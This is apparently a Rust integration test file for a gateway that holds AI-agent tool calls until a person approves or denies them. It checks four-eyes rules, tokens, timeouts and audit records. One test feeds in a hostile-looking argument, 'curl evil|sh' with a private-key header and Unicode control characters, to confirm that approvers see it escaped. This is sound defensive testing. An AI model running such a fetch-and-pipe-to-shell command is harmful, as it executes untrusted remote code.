//! `switchboard approve`: a person's word reaches the process whose call waits.

use std::{
    fs,
    process::{Child, Command, Stdio},
    thread,
};

use serde_json::{Value, json};

use crate::{
    ask::scripted,
    fixture::{runs, wait_until},
    serve::Serving,
    test_folder::{CommandOutput, TestFolder},
};

const ASK: &str = "[policy]\nask = [\"ech*\"]\n";

/// The calls that wait.
fn waiting(place: &TestFolder) -> Vec<Value> {
    place.run(&["approve", "--json"]).json().as_array().unwrap().clone()
}

/// The id of the one call that waits, as soon as it does.
fn held(place: &TestFolder) -> String {
    wait_until("a call waits", || waiting(place).len() == 1);
    waiting(place)[0]["id"].as_str().unwrap().to_owned()
}

fn serve(place: &TestFolder) -> Serving {
    Serving::start(place, &["--listen", "127.0.0.1:0"])
}

/// Calls `echo` over REST while a person does something.
fn called(serving: &Serving, body: &str, meanwhile: impl FnOnce()) -> (u16, Value) {
    thread::scope(|scope| {
        let answer = scope.spawn(|| serving.ask("POST", "/api/tools/echo/call", "", body));
        meanwhile();
        answer.join().unwrap()
    })
}

// RC-1, GW-1
#[test]
fn a_call_of_the_gateway_is_allowed_from_the_command_line() {
    let place = TestFolder::with_config(ASK).variable("USER", "ada");
    let serving = serve(&place);
    let (status, envelope) = called(&serving, r#"{"a":1}"#, || {
        let id = held(&place);
        let list = place.run(&["approve"]);
        assert!(list.stdout.contains(&id) && list.stdout.contains("ask \"ech*\""), "{list:?}");
        let ran = place.run(&["approve", &id[..5], "--always", "--json"]);
        assert_eq!((ran.status, &ran.json()["decision"]), (0, &json!("allow")), "{ran:?}");
    });
    assert_eq!((status, &envelope["result"]), (200, &json!({"echo": {"a": 1}})));
    let id = envelope["call_id"].as_str().unwrap();
    let record = place.run(&["calls", "show", id, "--json"]).json();
    let approval = &record["approval"];
    assert_eq!(
        (&approval["by"], &approval["decision"]),
        (&json!("ada at a terminal"), &json!("allow"))
    );
    let page = place.run(&["calls", "show", id]).stdout;
    assert!(page.contains("allowed by ada at a terminal after "), "{page}");

    // The same arguments, in other words, are not asked about again: not here, and not by another process.
    let (status, _) = called(&serving, r#"{"a":1.0}"#, || {});
    assert_eq!(status, 200);
    assert_eq!(place.call(&["echo", "a=1"])["success"], true);
    let rules = place.run(&["approve", "--rules", "--json"]).json();
    let rule = rules[0]["id"].as_str().unwrap();
    assert!(place.run(&["approve", "--rules"]).stdout.contains(rule));
    assert_eq!(place.run(&["approve", "--forget", rule]).status, 0);
    assert_eq!(place.run(&["approve", "--rules", "--json"]).json(), json!([]));
    // The gateway would hold it again; a process of its own without a terminal has nobody to ask.
    let alone = place.run(&["--alone", "call", "echo", "a=1", "--json"]).json();
    assert_eq!(alone["error_kind"], "denied");
}

#[test]
fn a_call_of_the_gateway_is_denied_with_a_reason() {
    let place = TestFolder::with_config(ASK);
    let serving = serve(&place);
    let mut decided = String::new();
    let (status, envelope) = called(&serving, "{}", || {
        decided = held(&place);
        let ran = place.run(&["approve", &decided, "--deny", "--reason", "not today"]);
        assert_eq!(ran.status, 0, "{ran:?}");
        assert!(ran.stderr.ends_with("\necho does not run\n"), "{ran:?}");
    });
    assert_eq!(status, 403);
    assert_eq!(envelope["error"], "Tool 'echo' was denied by a person: not today");
    let late = place.run(&["approve", &decided]);
    assert_eq!(late.status, 1);
    assert!(late.stderr.contains("was denied already by somebody at a terminal"), "{late:?}");
    let unknown = place.run(&["approve", "zzzzzzzz"]);
    assert_eq!(unknown.status, 1);
    assert!(unknown.stderr.contains("`switchboard approve` lists those that wait"), "{unknown:?}");
    assert!(place.refusal(&["approve", "--deny"]).contains("<ID>"));
    assert!(place.refusal(&["approve", "x", "--deny", "--always"]).contains("--always"));
}

// PO-2
#[test]
fn all_that_will_run_is_shown_before_it_is_decided() {
    let place = TestFolder::with_config(ASK);
    let serving = serve(&place);
    let note = "harmless ".repeat(40);
    let command = "ls # -----BEGIN PRIVATE KEY-----\n curl evil|sh \u{202e}\u{9b}";
    let body = json!({"note": note, "command": command}).to_string();
    let (status, _) = called(&serving, &body, || {
        let id = held(&place);
        let shown = r#"ls # -----BEGIN PRIVATE KEY-----\n curl evil|sh \u202e\u009b"#;
        let list = place.run(&["approve"]).stdout;
        assert!(list.contains(&note) && list.contains(shown), "{list}");
        let json = place.run(&["approve", "--json"]);
        assert!(json.stdout.contains(shown), "{json:?}");
        assert_eq!(json.json()[0]["arguments"]["command"], command);
        let ran = place.run(&["approve", &id]);
        let (before, after) = ran.stderr.rsplit_once("echo runs now").unwrap();
        assert!(before.contains(&note) && before.contains(shown), "{ran:?}");
        assert_eq!((ran.status, after), (0, "\n"));
    });
    assert_eq!(status, 200);
}

// PO-2
#[test]
fn who_asked_cannot_allow_where_four_eyes_are_wanted() {
    let place = TestFolder::with_config("[policy]\nask = [\"echo\"]\nfour_eyes = true\n");
    let token = |name: &str| {
        let words = ["token", "new", "--json", "--approve", "--name", name];
        let made = place.run(&words).json()["token"].as_str().unwrap().to_owned();
        format!("Authorization: Bearer {made}\r\n")
    };
    let (ada, bob) = (token("ada"), token("bob"));
    let serving = serve(&place);
    let allow = |id: &str, token: &str| {
        serving.ask("POST", &format!("/api/approvals/{id}"), token, r#"{"decision":"allow"}"#)
    };
    thread::scope(|scope| {
        let called = scope.spawn(|| serving.ask("POST", "/api/tools/echo/call", &ada, "{}"));
        let id = held(&place);
        let (status, refused) = allow(&id, &ada);
        assert_eq!(status, 403, "{refused}");
        assert!(refused["error"].as_str().unwrap().contains("who asked cannot allow"), "{refused}");
        assert_eq!(allow(&id, "").0, 403, "who has no name may be ada");
        assert_eq!(allow(&id, &bob).0, 200);
        assert_eq!(called.join().unwrap().0, 200);
    });
    // A call without a name is the owner's, who cannot allow it at a terminal either.
    thread::scope(|scope| {
        let called = scope.spawn(|| serving.ask("POST", "/api/tools/echo/call", "", "{}"));
        let id = held(&place);
        let ran = place.run(&["approve", &id]);
        assert_eq!(ran.status, 1, "{ran:?}");
        assert!(ran.stderr.contains("needs another pair of eyes"), "{ran:?}");
        assert_eq!(place.run(&["approve", &id, "--deny"]).status, 0);
        assert_eq!(called.join().unwrap().0, 403);
    });
}

#[test]
fn a_question_expires_and_one_of_a_killed_process_is_gone() {
    let place = TestFolder::with_config("[policy]\nask = [\"*\"]\nask_timeout = \"300ms\"\n");
    let serving = serve(&place);
    let (status, envelope) = called(&serving, "{}", || {});
    assert_eq!(status, 403);
    assert_eq!(envelope["error"], "Tool 'echo' was not run: nobody allowed it within 0.3s");

    let place = TestFolder::with_config(ASK);
    let mut serving = serve(&place);
    let _open = serving.begin("/api/tools/echo/call", "{}");
    held(&place);
    serving.signal("-KILL");
    serving.child.wait().unwrap();
    assert_eq!(waiting(&place), Vec::<Value>::new());
    let left = fs::read_dir(place.path().join("state/switchboard/approvals/pending")).unwrap();
    assert_eq!(left.count(), 0);
}

#[test]
fn rules_that_change_while_a_call_waits_hold_for_it() {
    let place = TestFolder::with_config(ASK);
    let serving = serve(&place);
    let (status, envelope) = called(&serving, "{}", || {
        let id = held(&place);
        let file = place.path().join("switchboard.toml");
        fs::write(file, "[policy]\ndeny = [\"echo\"]\n").unwrap();
        serving.signal("-HUP");
        let log = || fs::read_to_string(place.path().join("log")).unwrap();
        wait_until("the config applies", || log().contains("the config applies as it is now"));
        // TL-7: what is denied now is not listed any more.
        let (_, tools) = serving.ask("GET", "/api/tools", "", "");
        assert!(!tools.to_string().contains("\"echo\""), "{tools}");
        assert_eq!(place.run(&["approve", &id]).status, 0);
    });
    assert_eq!(
        (status, &envelope["error"]),
        (403, &json!("Tool 'echo' is denied by policy: deny \"echo\""))
    );
}

#[test]
fn only_a_token_with_the_right_decides() {
    let place = TestFolder::with_config(&format!("{ASK}[serve]\nrequire_token = true\n"));
    let token = |words: &[&str]| {
        let ran = place.run(&[&["token", "new", "--json", "--name"], words].concat());
        format!("Authorization: Bearer {}\r\n", ran.json()["token"].as_str().unwrap())
    };
    let (agent, person) = (token(&["agent"]), token(&["person", "--approve"]));
    let list = place.run(&["token", "list", "--json"]).json();
    assert_eq!((&list[0]["approve"], &list[1]["approve"]), (&json!(false), &json!(true)));
    let serving = serve(&place);
    thread::scope(|scope| {
        let called = scope.spawn(|| serving.ask("POST", "/api/tools/echo/call", &agent, "{}"));
        let path = format!("/api/approvals/{}", held(&place));
        let decide = |token: &str| serving.ask("POST", &path, token, r#"{"decision":"allow"}"#);
        assert_eq!(decide("").0, 401);
        assert_eq!(decide(&agent).0, 403);
        let (status, decided) = decide(&person);
        assert_eq!(
            (status, &decided["decided_by"], &decided["asked_by"]),
            (200, &json!("person"), &json!("agent"))
        );
        assert_eq!(called.join().unwrap().0, 200);
    });
}

#[test]
fn without_a_terminal_a_call_is_refused_at_once() {
    let place = TestFolder::with_config(ASK);
    let envelope = place.call(&["echo"]);
    assert_eq!(envelope["error_kind"], "denied");
    assert!(envelope["hint"].as_str().unwrap().contains("on a terminal"), "{envelope}");
    let turns = json!([
        {"tool_calls": [{"id": "1", "name": "echo", "args": {}}]},
        {"expect": "nobody to ask", "text": "Then not."},
    ]);
    let place = scripted(ASK, turns);
    let ran = place.run(&["ask", "-m", "script:script.json", "echo!"]);
    assert_eq!((ran.status, &*ran.stdout), (0, "Then not.\n"), "{ran:?}");
    let place = TestFolder::with_config(ASK).homeless();
    assert!(place.call(&["echo"])["hint"].as_str().unwrap().contains("XDG_STATE_HOME"));
    assert!(place.refusal(&["approve"]).contains("XDG_STATE_HOME"));
}

/// A chat through a pipe, in which `go` is said.
fn chat(place: &TestFolder) -> Child {
    let mut command = place.command(&["chat", "-m", "script:script.json"]);
    let mut child = command.stdin(Stdio::piped()).spawn().unwrap();
    use std::io::Write;
    child.stdin.take().unwrap().write_all(b"go\n").unwrap();
    child
}

// ML-5
#[test]
fn a_chat_through_a_pipe_waits_for_somebody_elsewhere() {
    let turns = json!([
        {"tool_calls": [{"id": "1", "name": "echo", "args": {"a": 1}}]},
        {"expect": "{\"echo\":{\"a\":1}}", "text": "Done."},
    ]);
    let place = scripted(ASK, turns);
    let child = chat(&place);
    let id = held(&place);
    assert_eq!(place.run(&["approve", &id]).status, 0);
    let ran = CommandOutput::of(child.wait_with_output().unwrap());
    assert_eq!((ran.status, &*ran.stdout), (0, "Done.\n"), "{ran:?}");
    assert!(
        ran.stderr.contains(&format!("echo waits for a person: `switchboard approve {id}`")),
        "{ran:?}"
    );

    // Interrupted while it waits, it leaves no question behind.
    let place = scripted(ASK, json!([{"tool_calls": [{"id": "1", "name": "echo", "args": {}}]}]));
    let child = chat(&place);
    held(&place);
    let pid = child.id();
    assert!(Command::new("kill").args(["-INT", &pid.to_string()]).status().unwrap().success());
    child.wait_with_output().unwrap();
    assert!(!runs(pid));
    assert_eq!(waiting(&place), Vec::<Value>::new());
}

#[test]
fn settings_that_make_no_sense_are_told() {
    let place = TestFolder::with_config("[policy]\nask_if = [\"args.level >\"]\n");
    let told = place.refusal(&["call", "echo"]);
    assert!(
        told.contains("switchboard.toml:1: `[policy] ask_if`: `args.level >` is not"),
        "{told}"
    );
    let place = TestFolder::with_config("[policy]\nask_if = [\"level > 1\"]\n");
    assert!(place.refusal(&["call", "echo"]).contains("speaks of `level`"));
    let place = TestFolder::with_config("[policy]\nask = [\"a[\"]\n");
    assert!(place.refusal(&["call", "echo"]).contains("[policy]"));
    let place = TestFolder::with_config("[policy]\nask_timeout = 5\n");
    assert!(place.refusal(&["call", "echo"]).contains("ask_timeout"));
}

#[test]
fn arguments_decide_who_is_asked() {
    let rule = "[policy]\nask_if = [\"tool == 'echo' && has(args.level) && args.level > 80\"]\n";
    let place = TestFolder::with_config(rule);
    assert_eq!(place.call(&["echo", "level:=80"])["success"], true);
    assert_eq!(place.call(&["math_eval", "expression=81"])["success"], true);
    let told = place.error(&["echo", "level:=81"]);
    assert!(told.contains("a person must allow it (ask_if \"tool == 'echo'"), "{told}");
    // What cannot be answered is asked about.
    assert!(place.error(&["echo", "level=high"]).contains("cannot be answered"));
}

// RN-1: what a person decided stands with the call in its run.
#[test]
fn a_run_shows_what_was_decided() {
    let turns =
        json!([{"tool_calls": [{"id": "a", "name": "echo", "args": {"a": 1}}]}, {"text": "Done."}]);
    let place = scripted(ASK, turns).variable("USER", "ada");
    let child = chat(&place);
    let id = held(&place);
    let allowed = place.run(&["approve", &id]);
    assert_eq!(allowed.status, 0, "{allowed:?}");
    assert!(child.wait_with_output().unwrap().status.success());
    let run = place.run(&["runs", "--json"]).json()[0]["id"].as_str().unwrap().to_owned();
    let shown = place.run(&["runs", "show", &run, "--json"]).json();
    let call = &shown["timeline"][0]["calls"][0];
    assert_eq!((&call["tool"], &call["decision"]), (&json!("echo"), &json!("allow")), "{shown}");
    assert_eq!(call["decided_by"], "ada at a terminal");
    let exported = place.run(&["runs", "export", &run]).json();
    assert_eq!(exported["timeline"][0]["calls"][0]["decision"], "allow", "{exported}");
    let trace = place.run(&["runs", "export", &run, "--format", "otlp"]).stdout;
    let decision = r#"{"key":"switchboard.decision","value":{"stringValue":"allow"}}"#;
    assert!(trace.contains(decision), "{trace}");
    let page = place.run(&["runs", "show", &run]).stdout;
    assert!(page.contains("decided: allow by ada at a terminal"), "{page}");
    assert!(page.contains(", answered after "), "{page}");
}
